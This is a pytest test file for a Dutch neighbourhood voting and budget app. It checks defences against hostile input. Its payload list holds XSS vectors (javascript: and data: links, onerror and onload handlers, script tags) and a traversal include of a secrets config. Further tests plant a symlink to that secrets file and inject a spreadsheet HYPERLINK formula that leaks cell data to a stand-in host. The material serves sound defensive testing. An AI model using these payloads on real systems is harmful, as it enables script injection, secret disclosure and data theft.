"""Hostile input never becomes active HTML, hangs or crashes: staff Markdown, files, CSV.

Each vector here was once a working attack on an earlier version; the tests check what a
user meets: the HTML a browser gets, the exit code and message of `wijkwerk check`, the status
of the app's pages, the files in the ZIP staff download.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import re
import signal
import stat
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import markdown
import pytest

from generator import output
from generator.render.escape import staff_markdown
from generator.sources import check
from generator.sources.yamlfile import parse
from tests.helpers import Staff, csrf_token, pdf_text, proposal
from voting_app.addresses import MAX_CELL, AddressError, read_addresses

ADMIN = "/beheer/beekvliet/bewonersbudget-2026"

# Staff Markdown that an outside tester turned into running script, and its relatives.
VECTORS = [
    "Kijk hier ![foto](x.png){ onerror=alert(1) }",
    '[site](https://example.org){ href="javascript:alert(2)" }',
    "Tekst\n{: onclick=alert(3) }",
    "[lees meer][1]\n\n[1]: javascript:alert(4)",
    "[lees meer][2]\n\n[2]: <javascript:alert(5)>",
    "[klik](\x01javascript:alert(6))",
    "[klik](\u0000 javascript:alert(7))",
    "[klik]( JaVaScRiPt:alert(8))",
    "[klik](vbscript:msgbox(9))",
    "[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxMCk8L3NjcmlwdD4=)",
    "![x](data:image/svg+xml,<svg onload=alert(11)>)",
    "<script>alert(12)</script>",
    '<a href="javascript:alert(13)">a</a> <img src=x onerror=alert(14)>',
    '<div markdown="1">*x*</div>',
    '--8<-- "../../instance/config.py"',
    "[klik](java&#115;cript:alert(15))",
    "[klik](&#x6A;avascript:alert(16))",
]
# The extensions MkDocs runs on the pages (mkdocs.yml): what the generated page passes through.
SITE_EXTENSIONS = [
    "admonition",
    "def_list",
    "attr_list",
    "md_in_html",
    "tables",
    "pymdownx.escapeall",
]
_BAD_URL = re.compile(r"^\s*(javascript|vbscript|data):", re.I)


class _Active(HTMLParser):
    """Everything in an HTML text that a browser could run."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("script", "iframe", "object", "embed", "style", "form"):
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            clean = re.sub(r"[\x00-\x20]", "", value or "")
            if name.startswith("on"):
                self.found.append(f"{tag} {name}")
            elif name in ("href", "src", "action", "formaction", "srcset") and _BAD_URL.match(
                clean
            ):
                self.found.append(f"{tag} {name}={value}")
            elif name in ("markdown", "style"):
                self.found.append(f"{tag} {name}")


def active(html: str) -> list[str]:
    parser = _Active()
    parser.feed(html)
    return parser.found


@pytest.mark.parametrize("text", VECTORS)
def test_staff_markdown_never_becomes_active_html(text: str) -> None:
    page = staff_markdown(text)
    html = markdown.markdown(page, extensions=SITE_EXTENSIONS)
    assert active(html) == [], html
    assert "instance/config.py" not in html or "--8&lt;--" in html


def test_staff_markdown_keeps_what_staff_use() -> None:
    text = (
        "**Let op:** de [wijkagenda](https://dijkstede.example/agenda) en "
        "[mail ons](mailto:wijk@dijkstede.example), [bel](tel:+31101234567), [terug](../)\n\n"
        "- een\n- twee\n\n| a | b |\n|--:|---|\n| 1 | 2 |"
    )
    html = markdown.markdown(staff_markdown(text), extensions=SITE_EXTENSIONS)
    for part in (
        "<strong>Let op:</strong>",
        'href="https://dijkstede.example/agenda"',
        'href="mailto:wijk@dijkstede.example"',
        'href="tel:+31101234567"',
        'href="../"',
        "<li>twee</li>",
        '<td align="right">1</td>',
    ):
        assert part in html


# --- files under wijken/ ------------------------------------------------------------------


def _stemrondes(wijken: Path) -> Path:
    folder = wijken / "beekvliet" / "stemrondes"
    folder.mkdir(exist_ok=True)
    return folder


_CHECK = "from voting_app.cli import main; main()"


def _check(project: Path) -> subprocess.CompletedProcess[str]:
    """`wijkwerk check` in its own process, so that a hang fails the test instead of hanging."""
    return subprocess.run(
        [sys.executable, "-c", _CHECK, "check", "--root", str(project)],
        capture_output=True,
        text=True,
        timeout=30,
        check=False,
        cwd=project,
    )


HOSTILE_FILES = {
    "fifo": lambda folder: os.mkfifo(folder / "ronde.pb"),
    "symlinked pb": lambda folder: (folder / "ronde.pb").symlink_to(
        folder.parents[2] / "instance" / "config.py"
    ),
    "folder as pb": lambda folder: (folder / "ronde.pb").mkdir(),
    "not utf-8 pb": lambda folder: (folder / "ronde.pb").write_bytes(b"META\nnaam;\xff\xfe\n"),
    "deep yaml": lambda folder: (folder / "ronde.yaml").write_text(
        "ronde: " + "[" * 1000 + "]" * 1000 + "\n"
    ),
}
MESSAGES = {
    "fifo": "ronde.pb: Hier staat een pipe (FIFO), maar hier hoort een bestand.",
    "symlinked pb": "ronde.pb: Een snelkoppeling (symbolische link) kan niet",
    "folder as pb": "ronde.pb: Hier staat een map, maar hier hoort een bestand.",
    "not utf-8 pb": "ronde.pb:2: Het bestand is niet als UTF-8 opgeslagen.",
    "deep yaml": "ronde.yaml:1: Het bestand springt meer dan 50 keer in.",
}


@pytest.fixture
def secret(project: Path) -> Path:
    path = project / "instance" / "config.py"
    path.parent.mkdir(exist_ok=True)
    path.write_text("SECRET_KEY = 'geheim-geheim-geheim-geheim-geheim'\n")
    return path


@pytest.mark.parametrize("kind", HOSTILE_FILES)
def test_check_reports_hostile_files_without_a_traceback(
    project: Path, secret: Path, kind: str
) -> None:
    HOSTILE_FILES[kind](_stemrondes(project / "wijken"))
    started = dt.datetime.now()
    result = _check(project)
    seconds = (dt.datetime.now() - started).total_seconds()
    assert result.returncode == 1, result.stdout + result.stderr
    assert MESSAGES[kind] in result.stdout + result.stderr
    assert "Traceback" not in result.stdout + result.stderr
    assert seconds < 15


def test_a_linked_stemrondes_folder_is_refused(project: Path, secret: Path, tmp_path: Path) -> None:
    outside = tmp_path / "elders"
    outside.mkdir()
    (outside / "ronde.pb").symlink_to(secret)
    (project / "wijken" / "beekvliet" / "stemrondes").symlink_to(outside)
    errors = [str(e) for e in check(project / "wijken")]
    assert any("stemrondes: Een snelkoppeling (symbolische link)" in e for e in errors), errors


def test_a_linked_ballot_file_never_reaches_the_site(project: Path, secret: Path) -> None:
    from click.testing import CliRunner

    from voting_app.cli import main

    (_stemrondes(project / "wijken") / "ronde.pb").symlink_to(secret)
    result = CliRunner().invoke(main, ["build", "--root", str(project)])
    assert result.exit_code == 1
    assert "Een snelkoppeling (symbolische link) kan niet" in result.output
    published = [p for p in project.rglob("*") if p.is_file() and "site" in p.parts]
    assert not any("geheim" in p.read_text(errors="replace") for p in published)


def test_generated_folder_never_keeps_a_link(tmp_path: Path, secret: Path) -> None:
    target = tmp_path / "gen"
    output.write_tree(target, {"a.md": "A"})
    (target / "geheim.py").symlink_to(secret)
    (target / "map").symlink_to(secret.parent)
    output.write_tree(target, {"a.md": "A", "map/b.md": "B"})
    assert not (target / "geheim.py").exists()
    assert not (target / "map").is_symlink()
    assert not secret.with_name("b.md").exists()


class _Timeout(Exception):
    pass


@pytest.fixture
def alarm() -> Iterator[None]:
    """Turn a hanging request into a failing test after 10 seconds."""

    def fail(signum: int, frame: object) -> None:
        raise _Timeout

    old = signal.signal(signal.SIGALRM, fail)
    signal.alarm(10)
    yield
    signal.alarm(0)
    signal.signal(signal.SIGALRM, old)


@pytest.mark.usefixtures("alarm")
def test_app_keeps_serving_when_a_source_turns_hostile(client, project: Path, secret: Path) -> None:
    assert client.get("/stemmen/").status_code == 200
    folder = _stemrondes(project / "wijken")
    os.mkfifo(folder / "pijp.pb")
    (folder / "link.pb").symlink_to(secret)
    (folder / "diep.yaml").write_text("a: " + "[" * 1000 + "]" * 1000 + "\n")
    for path in ("/stemmen/", "/stemmen/beekvliet/bewonersbudget-2026/"):
        response = client.get(path)
        assert response.status_code == 200, path
        assert b"geheim" not in response.data


# --- address lists and codes.csv ----------------------------------------------------------


@pytest.fixture
def manager(app, client) -> Staff:
    """A logged-in wijkmanager of Beekvliet, whose round has a proposal on the ballot."""
    from voting_app.models import db

    with app.app_context():
        db.session.add(proposal(title="Bankjes bij de beek"))
        db.session.commit()
    staff = Staff(app, client)
    staff.create("anouk", "wijkmanager", ("beekvliet",))
    staff.login("anouk")
    return staff


def _make_codes(client, csv_bytes: bytes, host: str = "localhost"):
    """Post an address list; ``host`` is the Host header the request claims."""
    if host != "localhost":  # the same logged-in session, sent to the forged host name
        session = client.get_cookie("session")
        client.set_cookie("session", session.value, domain=host)
    base = f"http://{host}"
    token = csrf_token(client.get(f"{ADMIN}/", base_url=base).data)
    return client.post(
        f"{ADMIN}/codes",
        data={"csrf_token": token, "recipients": (io.BytesIO(csv_bytes), "adressen.csv")},
        content_type="multipart/form-data",
        base_url=base,
    )


def _zip(response) -> tuple[list[list[str]], str]:
    assert response.status_code == 200, response.data[:500]
    archive = zipfile.ZipFile(io.BytesIO(response.data))
    rows = list(csv.reader(io.StringIO(archive.read("codes.csv").decode()), delimiter=";"))
    return rows, "\n".join(pdf_text(archive.read("brieven.pdf")))


@pytest.mark.usefixtures("manager")
def test_address_list_in_cp1252_with_semicolons(client) -> None:
    data = "naam;adres\nJosé Müller;Weideweg 1\nFrançoise;Beekstraat 2\n".encode("cp1252")
    rows, pdf = _zip(_make_codes(client, data))
    assert [r[2] for r in rows[1:]] == ["José Müller / Weideweg 1", "Françoise / Beekstraat 2"]
    assert "Jos\xe9 M\xfcller" in pdf


@pytest.mark.usefixtures("manager")
def test_address_list_in_utf8_with_bom_and_commas(client) -> None:
    data = "\ufeffnaam,adres\nZoë,Weideweg 3\n".encode()
    rows, _ = _zip(_make_codes(client, data))
    assert rows[1][2] == "Zoë / Weideweg 3"


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"alleen namen\nJan\nPiet\n", "maar één kolom"),
        (b"", "leeg"),
        (b"naam;adres\n", "geen adressen"),
        (b"naam;adres\nJan;Weg 1;extra;nog meer\n", "Regel 2 van het adressenbestand heeft 4"),
        (b"naam;adres\n\x00\x01\x02", "geen tekstbestand"),
        (b"naam;adres\n\x81\x8d\x8f\x90;x\n", "niet te lezen"),
    ],
)
@pytest.mark.usefixtures("manager")
def test_a_bad_address_list_gets_a_dutch_message(client, data: bytes, message: str) -> None:
    response = _make_codes(client, data)
    assert response.status_code == 302
    page = client.get(response.headers["Location"]).get_data(as_text=True)
    assert message in page
    assert "Internal Server Error" not in page


@pytest.mark.usefixtures("manager")
def test_formulas_in_addresses_are_disarmed_in_codes_csv(client) -> None:
    data = (
        b"naam;adres\n"
        b'"=HYPERLINK(""https://kwaad.example/?""&A1;""klik"")";Weg 1\n'
        b"+31 10 123;@SUM(1)\n"
        b"-2+3;Weg 2\n"
    )
    rows, _ = _zip(_make_codes(client, data))
    cells = [r[2] for r in rows[1:]]
    assert cells[0].startswith("'=HYPERLINK(")
    assert cells[1].startswith("'+31 10 123")
    assert cells[2].startswith("'-2+3")
    assert not any(c.startswith(("=", "+", "-", "@")) for r in rows for c in r)


@pytest.mark.usefixtures("manager")
def test_letters_carry_the_configured_address_not_the_host_header(app, client) -> None:
    app.config["PUBLIC_URL"] = "https://wijken.dijkstede.example/"
    response = _make_codes(client, b"naam;adres\nJan;Weg 1\n", host="kwaad.example")
    _, pdf = _zip(response)
    assert "https://wijken.dijkstede.example/stemmen/beekvliet/bewonersbudget-2026/" in pdf
    assert "kwaad.example" not in pdf


@pytest.mark.usefixtures("manager")
def test_production_refuses_letters_without_an_https_address(app, client) -> None:
    app.config.update(TESTING=False, PUBLIC_URL="http://wijken.dijkstede.example")
    response = _make_codes(client, b"naam;adres\nJan;Weg 1\n")
    app.config["TESTING"] = True
    assert response.status_code == 302
    page = client.get(response.headers["Location"]).get_data(as_text=True)
    assert "WIJKWERK_PUBLIC_URL" in page


@pytest.mark.parametrize(
    ("cell", "code"),
    [
        ("Piet\x1bEsc", "U+001B"),
        ("A\x07B", "U+0007"),
        ("Tab\tin", "U+0009"),
        ("\u202eevil\u202c Name", "U+202E"),
        ("Ma\u200bx", "U+200B"),
        ("X\u2028Y", "U+2028"),
        ("Jan\nPiet", "U+000A"),
    ],
)
def test_an_invisible_character_in_an_address_is_refused_with_its_place(
    cell: str, code: str
) -> None:
    """What the mail house reads must be what the letter prints and staff see."""
    data = f'naam;adres\nJan;Weg 1\n"{cell}";Weg 2\n'.encode()
    with pytest.raises(AddressError) as refused:
        read_addresses(data)
    assert refused.value.message == (
        f"Regel 3, kolom naam: er staat een onzichtbaar teken in ({code}). "
        "Haal het weg en probeer het opnieuw."
    )


def test_a_cell_longer_than_a_name_or_address_is_refused() -> None:
    with pytest.raises(AddressError) as refused:
        read_addresses(("naam;adres\nJan;" + "Wegje" * 4_000 + "\n").encode())
    assert refused.value.message == (
        "Regel 2, kolom adres: hier staan 20.000 tekens. Zo lang is geen naam of adres. "
        f"Gebruik hoogstens {MAX_CELL} tekens per kolom."
    )
    with pytest.raises(AddressError, match="Regel 1, kolom 2: hier staan 201 tekens"):
        read_addresses(("naam;" + "a" * 201 + "\nJan;Weg 1\n").encode())
    # At the limit, with a no-break space and accents, a cell is read as it is.
    name = "Zoë\u00a0de Vries-" + "ß" * (MAX_CELL - 14)
    assert read_addresses(f"naam;adres\n{name};Weg 1\n".encode()) == [(name, "Weg 1")]


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)  # refused before the database
@pytest.mark.usefixtures("manager")
def test_staff_see_where_the_invisible_character_is(client) -> None:
    response = _make_codes(client, 'naam;adres\n"\u202eevil\u202c Name";Weg 1\n'.encode())
    assert response.status_code == 302
    page = client.get(response.headers["Location"]).get_data(as_text=True)
    assert "Regel 2, kolom naam: er staat een onzichtbaar teken in (U+202E)." in page
    assert "\u202e" not in page


# --- privacy and file modes ---------------------------------------------------------------


def test_emails_of_a_round_gone_from_the_sources_are_deleted(app) -> None:
    from voting_app.models import Proposal, db
    from voting_app.privacy import purge_contact_details

    with app.app_context():
        db.session.add(
            proposal(
                ronde="oude-ronde-2025",
                submitted_on=dt.date(2025, 3, 1),
                email="bewoner@example.org",
                published=False,
            )
        )
        db.session.commit()
        assert purge_contact_details(dt.date(2025, 5, 30)) == 0  # 90 days after the last proposal
        assert purge_contact_details(dt.date(2025, 5, 31)) == 1
        assert db.session.query(Proposal).one().email is None


def test_written_files_are_readable_by_a_web_server(tmp_path: Path) -> None:
    old = os.umask(0o077)
    try:
        output.write_atomic(tmp_path / "nieuw" / "ronde.yaml", b"ronde: x\n")
        output.write_tree(tmp_path / "gen", {"wijk/index.md": "# Wijk\n"})
    finally:
        os.umask(old)
    for path, mode in (
        (tmp_path / "nieuw", 0o755),
        (tmp_path / "nieuw" / "ronde.yaml", 0o644),
        (tmp_path / "gen", 0o755),
        (tmp_path / "gen" / "wijk", 0o755),
        (tmp_path / "gen" / "wijk" / "index.md", 0o644),
    ):
        assert stat.S_IMODE(path.stat().st_mode) == mode, path


def test_deep_yaml_in_a_source_file(wijken_dir: Path) -> None:
    path = wijken_dir / "molenwijk" / "wop.yaml"
    path.write_text("themas: " + "[" * 60 + "]" * 60 + "\n")
    errors = [str(e) for e in check(wijken_dir)]
    assert any("molenwijk/wop.yaml:1: Het bestand springt meer dan 50 keer in" in e for e in errors)
    assert parse("a: " + "[" * 40 + "]" * 40).data is not None  # deep, but within the limit


# --- the site's CSP in a browser ----------------------------------------------------------


@pytest.mark.browser
@pytest.mark.slow
def test_site_works_under_its_csp_in_chromium(project: Path) -> None:
    """Material's search and scripts run under the policy, and it reports no violation."""
    import functools
    import http.server
    import shutil
    import threading

    from click.testing import CliRunner

    from voting_app.cli import main

    chromium = shutil.which("chromium")
    if chromium is None:
        pytest.skip("Debian's chromium is not installed")
    from playwright.sync_api import sync_playwright

    assert CliRunner().invoke(main, ["build", "--root", str(project)]).exit_code == 0
    handler = functools.partial(
        http.server.SimpleHTTPRequestHandler, directory=str(project / "site")
    )
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    base = f"http://127.0.0.1:{server.server_port}"
    messages: list[str] = []
    try:
        with sync_playwright() as p:
            browser = p.chromium.launch(
                executable_path=chromium, args=["--headless", "--no-sandbox"]
            )
            page = browser.new_page()
            page.on("console", lambda m: messages.append(m.text))
            page.on("pageerror", lambda e: messages.append(str(e)))
            for path in ("/", "/wijken/centrum/", "/wijken/budgetten/", "/wijken/centrum/agenda/"):
                page.goto(base + path)
            page.fill("input.md-search__input", "haven")
            # The index loads in a web worker: beside two test workers on two slow cores
            # that once took more than 10 s (alone, the whole test takes about 5 s).
            page.wait_for_selector(".md-search-result__item", timeout=40_000)
            browser.close()
    finally:
        server.shutdown()
        server.server_close()
    assert [m for m in messages if "Content Security Policy" in m or "Error" in m] == []
